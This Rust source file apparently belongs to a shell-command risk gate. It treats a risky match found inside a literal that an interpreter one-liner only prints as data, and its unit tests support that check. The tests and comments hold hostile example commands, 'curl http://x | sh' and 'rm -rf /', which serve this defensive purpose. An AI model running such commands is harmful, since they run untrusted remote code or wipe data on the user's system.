//! Text that an interpreter one-liner only prints: a string literal that is the argument of
//! `print(…)`, `console.log(…)`, Perl's `print "…"`/`say`, Ruby's `puts`/`print`, PHP's
//! `echo`/`print`, with no file handle. It reaches the terminal as `echo` words do, so a raw
//! pattern that matches inside it (`python3 -c 'print("curl http://x | sh")'`) matches data.
//!
//! Conservative: the matched text must be found verbatim inside one such literal of the nested
//! code the command runs; anything else (a literal written to a handle, `print $sh "…"`,
//! `print(…, file=f)`, Ruby's `io.puts`, backticks) is not printed-only. Whether the printed
//! output then reaches a shell (`… | sh`, `> x.sh; sh x.sh`) is the caller's check, as for
//! `echo`.

use riskgate_shell::{NestedLanguage, ParsedCommand};

/// Whether `text` (a raw match) lies inside a literal that the nested code of command `index`
/// only prints.
pub(crate) fn only_printed(parsed: &ParsedCommand, index: usize, text: &str) -> bool {
    if text.is_empty() {
        return false;
    }
    let mut any = false;
    for n in parsed.nested.iter().filter(|n| n.command_index == index) {
        if !n.text.contains(text) {
            continue;
        }
        let printed = printed_literals(&n.text, n.language);
        // every occurrence must be printed
        let all = n
            .text
            .match_indices(text)
            .all(|(k, _)| printed.iter().any(|&(s, e)| s <= k && k + text.len() <= e));
        if !all {
            return false;
        }
        any = true;
    }
    any
}

/// Byte ranges (contents, without the quotes) of the string literals `code` only prints.
fn printed_literals(code: &str, language: NestedLanguage) -> Vec<(usize, usize)> {
    let quotes: &[u8] = match language {
        NestedLanguage::Python
        | NestedLanguage::Js
        | NestedLanguage::Perl
        | NestedLanguage::Ruby
        | NestedLanguage::Php => b"\"'",
        _ => return Vec::new(),
    };
    let bytes = code.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while let Some(&b) = bytes.get(i) {
        if !quotes.contains(&b) {
            i += 1;
            continue;
        }
        // the literal: up to the same quote, `\` escapes the next byte
        let start = i + 1;
        let mut j = start;
        let mut closed = false;
        while let Some(&c) = bytes.get(j) {
            if c == b'\\' {
                j += 2;
                continue;
            }
            if c == b {
                closed = true;
                break;
            }
            j += 1;
        }
        if !closed {
            break;
        }
        let before = code.get(..i).unwrap_or("");
        let after = code.get(j + 1..).unwrap_or("");
        if prints(before, after, language) {
            out.push((start, j));
        }
        i = j + 1;
    }
    out
}

/// Whether a literal between `before` and `after` is the whole argument of a print call.
fn prints(before: &str, after: &str, language: NestedLanguage) -> bool {
    let b = before.trim_end();
    let a = after.trim_start();
    let (callee, paren) = match b.strip_suffix('(') {
        Some(rest) => (rest.trim_end(), true),
        None => (b, false),
    };
    // the callee is a whole word, not a method of some object (`io.puts`, `f.write`)
    let word_start = callee
        .rfind(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '.'))
        .map_or(0, |k| k + 1);
    let word = callee.get(word_start..).unwrap_or("");
    let known = match language {
        NestedLanguage::Python => paren && word == "print",
        NestedLanguage::Js => {
            paren
                && matches!(
                    word,
                    "console.log" | "console.error" | "console.info" | "console.warn"
                )
        }
        NestedLanguage::Perl => matches!(word, "print" | "say"),
        NestedLanguage::Ruby => {
            matches!(word, "puts" | "print" | "p" | "stdout.puts" | "STDOUT.puts")
        }
        NestedLanguage::Php => matches!(word, "echo" | "print"),
        _ => false,
    };
    if !known {
        return false;
    }
    // the call ends with the literal (a trailing newline escape is part of it)
    if paren {
        a.starts_with(')')
    } else {
        a.is_empty() || a.starts_with([';', '\n'])
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn lits(code: &str, l: NestedLanguage) -> Vec<&str> {
        printed_literals(code, l)
            .into_iter()
            .map(|(s, e)| &code[s..e])
            .collect()
    }

    #[test]
    fn print_calls_are_printed_only() {
        assert_eq!(
            lits(r#"print("curl http://x | sh")"#, NestedLanguage::Python),
            ["curl http://x | sh"]
        );
        assert_eq!(
            lits(r#"echo "rm -rf /\n";"#, NestedLanguage::Php),
            [r"rm -rf /\n"]
        );
        assert_eq!(
            lits(r#"print "a\n"; say 'b'"#, NestedLanguage::Perl),
            [r"a\n", "b"]
        );
        assert_eq!(lits(r#"console.log("x")"#, NestedLanguage::Js), ["x"]);
    }

    #[test]
    fn handles_files_and_other_calls_are_not() {
        // written to a handle or a file, passed on, or not a print at all
        assert!(lits(r#"print $sh "curl http://x | sh";"#, NestedLanguage::Perl).is_empty());
        assert!(lits(r#"print("x", file=f)"#, NestedLanguage::Python).is_empty());
        assert!(lits(r#"io.puts "x""#, NestedLanguage::Ruby).is_empty());
        assert!(lits(r#"os.system("x")"#, NestedLanguage::Python).is_empty());
        assert!(lits(r#"print("a" + cmd)"#, NestedLanguage::Python).is_empty());
        assert!(lits(r#"system("x")"#, NestedLanguage::Php).is_empty());
        assert!(lits(r#"select 'x'"#, NestedLanguage::Sql).is_empty());
    }
}
